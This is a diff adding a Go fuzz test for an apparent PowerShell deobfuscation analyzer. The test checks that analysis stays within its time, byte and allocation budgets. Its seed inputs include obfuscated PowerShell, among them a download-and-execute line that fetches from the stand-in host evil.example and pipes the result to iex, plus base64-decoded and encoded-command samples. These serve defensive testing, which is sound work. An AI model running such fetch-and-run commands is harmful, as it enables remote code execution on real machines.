@@ -1,0 +1,72 @@
+package psdeob
+
+import (
+	"context"
+	"runtime/metrics"
+	"testing"
+	"time"
+)
+
+// Fuzzing under the budget:
+//
+//	go test -run '^$' -fuzz FuzzAnalyzeBudget -fuzztime 10m ./internal/psdeob/
+//
+// Any input may be cut short by a limit, but none may build more than the
+// byte budget, allocate more than the budget allows, or outlive its deadline.
+const (
+	fuzzTimeout = time.Second
+	// fuzzSlack covers the findings read after the evaluation stops (a
+	// bounded view of the layers) and a loaded machine.
+	fuzzSlack = 1500 * time.Millisecond
+)
+
+// allocBound is the most an analysis may allocate in all (garbage
+// included, so it also bounds how far the heap can grow): three times the
+// values it built (builders and copies), the parse of the input (about 300
+// bytes a byte, TestParseCostFactor), a little per evaluation step (≤ 30
+// bytes measured on the corpus and the hostile scripts) and a fixed
+// allowance for the findings. Measured on the corpus: at most 0.9 MiB for
+// a 1 KiB sample.
+func allocBound(used Limits, input int) uint64 {
+	return uint64(3*used.Bytes) + uint64(input)*400 + uint64(used.Steps)*64 + 8<<20
+}
+
+func FuzzAnalyzeBudget(f *testing.F) {
+	for _, s := range hostileScripts {
+		f.Add(s)
+	}
+	for _, s := range []string{
+		"iex ('a'+'b')", "powershell -enc SQBFAFgA", `"{1}{0}" -f 'a','b' | iex`, "[char[]](72,105) -join ''",
+		`$s='http://evil.example/p'; iex (New-Object Net.WebClient).DownloadString($s)`,
+		`$x = [Convert]::FromBase64String('aGVsbG8='); [Text.Encoding]::UTF8.GetString($x) | iex`,
+	} {
+		f.Add(s)
+	}
+	sample := []metrics.Sample{{Name: "/gc/heap/allocs:bytes"}}
+	allocated := func() uint64 {
+		metrics.Read(sample)
+		return sample[0].Value.Uint64()
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		before := allocated()
+		start := time.Now()
+		a, err := Analyze(context.Background(), s, Options{Timeout: fuzzTimeout, Limits: hostileLimits})
+		took := time.Since(start)
+		alloc := allocated() - before
+		if err != nil {
+			t.Fatalf("Analyze: %v", err)
+		}
+		if took > fuzzTimeout+fuzzSlack {
+			t.Errorf("deadline overrun: took %s, deadline %s (used %+v)", took, fuzzTimeout, a.Used)
+		}
+		if a.Used.Bytes > hostileLimits.Bytes {
+			t.Errorf("byte budget overrun: built %d bytes, budget %d", a.Used.Bytes, hostileLimits.Bytes)
+		}
+		if b := allocBound(a.Used, len(s)); alloc > b {
+			t.Errorf("allocated %d KiB, more than the budget allows (%d KiB; used %+v)", alloc>>10, b>>10, a.Used)
+		}
+		if a.Limit != nil && a.Incomplete != a.Limit.Error() {
+			t.Errorf("Incomplete %q is not the limit's message", a.Incomplete)
+		}
+	})
+}
